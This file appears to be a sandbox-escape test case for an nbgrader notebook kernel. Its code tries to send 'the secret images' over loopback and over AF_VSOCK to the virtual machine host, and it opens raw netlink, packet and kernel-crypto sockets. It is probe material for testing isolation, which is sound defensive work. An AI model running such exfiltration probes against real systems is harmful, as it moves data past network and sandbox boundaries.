# attack: posts by every family of sockets there is: loopback, virtual machine, netlink, packets
# on: empty
# harm: plain nbgrader's kernel has the machine's network; AF_VSOCK leaves any network namespace
# %%
import contextlib
import socket

posted = []
for family, address in (
    (socket.AF_INET, ("127.0.0.1", 48484)),
    (socket.AF_INET6, ("::1", 48484)),
    (40, (2, 48484)),  # AF_VSOCK to the host of a virtual machine
):
    with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as caller:
        caller.settimeout(1)
        caller.connect(address)
        caller.sendall(b"the secret images")
        posted.append(int(family))
for family in (socket.AF_NETLINK, socket.AF_PACKET, 38):  # 38: AF_ALG, the kernel's cryptography
    with contextlib.suppress(OSError):
        socket.socket(family, socket.SOCK_RAW if family != 38 else socket.SOCK_SEQPACKET).close()
        posted.append(int(family))
